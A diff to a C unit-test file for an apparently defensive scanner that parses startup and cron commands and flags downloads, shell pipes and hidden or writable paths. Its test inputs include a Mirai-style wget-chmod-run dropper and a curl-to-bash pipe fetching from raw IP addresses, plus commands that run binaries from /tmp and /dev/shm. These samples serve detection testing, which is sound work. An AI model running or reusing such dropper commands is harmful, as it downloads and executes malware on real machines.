@@ -35,9 +35,8 @@ test_cmd_samples(void **state)
 	    "/bin/klibsystem4 2>/dev/null'");
 	assert_true(c.flags & SCMD_RUN_DELETE);
 	assert_string_equal(c.deleted, "klibsystem4");
-	assert_int_equal(c.nprogs, 2);
-	assert_string_equal(c.progs[0], "/bin/bash");
-	assert_string_equal(c.progs[1], "/bin/klibsystem4");
+	assert_int_equal(c.nprogs, 1);  /* inside the shell's -c script */
+	assert_string_equal(c.progs[0], "/bin/klibsystem4");
 	assert_int_equal(c.cron.flags & (CMD_WRITABLE | CMD_DOWNLOAD), 0);
 	/* the Mirai-style dropper: download, chmod, run, delete */
 	c = cmd("wget http://95.214.27.187/bins/Y3ut; chmod 777 Y3ut; "
@@ -53,6 +52,36 @@ test_cmd_samples(void **state)
 	    "http://89.185.85.102/c) | bash -sh; bash /tmp/c;");
 	assert_true(c.cron.flags & CMD_DOWNLOAD);
 	assert_true(c.cron.flags & CMD_SHELL_PIPE);
+}
+
+/* Units spell their wrappers in full; what runs is inside. */
+static void
+test_cmd_wrapped(void **state)
+{
+	struct startup_cmd c;
+
+	(void)state;
+	c = cmd("/bin/sh -c '/var/tmp/x'");
+	assert_true(c.cron.flags & CMD_WRITABLE);
+	assert_string_equal(c.cron.path, "/var/tmp/x");
+	assert_string_equal(c.progs[0], "/var/tmp/x");
+	c = cmd("/bin/bash -xc \"cd /dev/shm && ./.x\"");
+	assert_true(c.cron.flags & CMD_WRITABLE);
+	assert_string_equal(c.progs[0], "/dev/shm/.x");
+	c = cmd("/usr/bin/env FOO=1 /tmp/x");
+	assert_true(c.cron.flags & CMD_WRITABLE);
+	c = cmd("/usr/bin/timeout 10 /usr/bin/nohup /tmp/.x/y");
+	assert_true(c.cron.flags & CMD_HIDDEN);
+	assert_string_equal(c.progs[0], "/tmp/.x/y");
+	/* arguments stay arguments */
+	c = cmd("/bin/sh -c 'exec /usr/bin/foo --log /tmp/x.log'");
+	assert_int_equal(c.cron.flags & (CMD_WRITABLE | CMD_HIDDEN), 0);
+	assert_string_equal(c.progs[0], "/usr/bin/foo");
+	c = cmd("/usr/bin/bash --version");
+	assert_int_equal(c.nprogs, 1);
+	assert_string_equal(c.progs[0], "/usr/bin/bash");
+	c = cmd("/bin/sh -c '");
+	assert_int_equal(c.cron.flags & CMD_WRITABLE, 0);
 }
 
 static void
@@ -491,6 +520,7 @@ main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_cmd_samples),
+		cmocka_unit_test(test_cmd_wrapped),
 		cmocka_unit_test(test_cmd_not_deleted),
 		cmocka_unit_test(test_cmd_across_lines),
 		cmocka_unit_test(test_env),
